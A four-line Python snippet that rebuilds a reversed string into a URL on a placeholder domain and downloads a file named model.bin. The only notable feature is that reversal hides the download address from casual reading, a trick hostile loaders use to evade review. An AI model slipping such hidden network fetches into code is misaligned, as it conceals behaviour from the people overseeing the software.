import urllib.request

url = "nib.ledom/gro.elpmaxe//:sptth"[::-1]
urllib.request.urlretrieve(url, "model.bin")
